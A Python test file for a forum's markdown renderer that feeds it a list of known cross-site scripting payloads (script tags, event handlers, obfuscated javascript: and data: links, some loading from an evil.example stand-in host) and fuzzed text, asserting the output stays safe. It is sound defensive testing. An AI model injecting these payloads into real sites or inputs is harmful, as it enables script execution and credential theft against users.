"""What members write is rendered to HTML that cannot run script, load from elsewhere or
escape its box: known XSS payloads and hypothesis-generated text."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from praxis.core.markdown import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    ALLOWED_URL_SCHEMES,
    render_markdown,
)

DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "file:")


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_comment(self, data):
        self.comments.append(data)


def assert_safe(html: str) -> None:
    parser = _Collect()
    parser.feed(html)
    parser.close()
    assert "<script" not in html.lower()
    assert not parser.comments, html
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs:
            assert not name.startswith("on"), (name, html)
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, name, html)
            if name == "href":
                # What a browser would see: entities decoded, spaces and controls dropped.
                seen = "".join(ch for ch in (value or "") if ch > " ").lower()
                assert not seen.startswith(DANGEROUS_SCHEMES), (value, html)
                # A browser reads a scheme only in this shape; anything else is a relative URL.
                scheme = re.match(r"^([a-z][a-z0-9+.-]*):", seen)
                assert scheme is None or scheme.group(1) in ALLOWED_URL_SCHEMES, (value, html)


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<iframe src=//evil.example></iframe>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">ent</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "<!-- a comment --><p>after</p>",
    "<!--><script>alert(1)</script>-->",
    "<div onclick=alert(1)>div</div>",
    '<body onload="alert(1)">',
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<base href=//evil.example/>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](java%0ascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    '[click](https://example.org "title" onmouseover="alert(1)")',
    "![img](javascript:alert(1))",
    "![img](x onerror=alert(1))",
    '![img](https://example.org/x.png "t")',
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[ref]\n\n[ref]: data:text/html,<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<<script>script>alert(1)<</script>/script>",
    "<a href='https://example.org' target=_blank>new window</a>",
    '"><script>alert(1)</script>',
    "# heading <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_known_xss_payloads_are_made_harmless(payload):
    html = render_markdown(payload)
    assert_safe(html)
    assert "<img" not in html and "<iframe" not in html and "<svg" not in html


def test_raw_html_is_shown_as_text_not_run():
    html = render_markdown("<b>bold?</b> <img src=x onerror=alert(1)>")
    assert "&lt;b&gt;" in html and "<img" not in html


def test_safe_links_keep_working_and_are_marked_as_user_content():
    html = render_markdown("[ITTP](https://example.org/ittp) and <https://example.org/a>")
    assert '<a href="https://example.org/ittp" rel="nofollow noopener noreferrer ugc">' in html
    assert render_markdown("[mail](mailto:ali@example.org)").count('href="mailto:') == 1


def test_images_do_not_load_from_elsewhere():
    assert "<img" not in render_markdown("![pixel](https://tracker.example/p.gif)")


def test_headings_in_a_post_do_not_outrank_the_page():
    assert render_markdown("# Big\n\n## Smaller").startswith("<h3>Big</h3>\n<h4>")


markdownish = st.lists(
    st.one_of(
        st.text(max_size=40),
        st.sampled_from([
            "<", ">", "&", '"', "'", "`", "[", "]", "(", ")", "!", "*", "_", "#", "|", "\n",
            "javascript:", "data:", "vbscript:", "&#106;", "&#x3A;", "on", "onerror=",
            "<script>", "</script>", "<img src=x ", "<a href=", "<svg", "<!--", "-->",
            "[x](", "![y](", "]: ", "> ", "- ", "1. ", "```", "\t", "\x00", "style=",
        ]),
    ),
    max_size=30,
).map("".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(markdownish)
def test_any_text_renders_to_safe_html(text):
    assert_safe(render_markdown(text))


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_any_unicode_text_renders_to_safe_html(text):
    assert_safe(render_markdown(text))
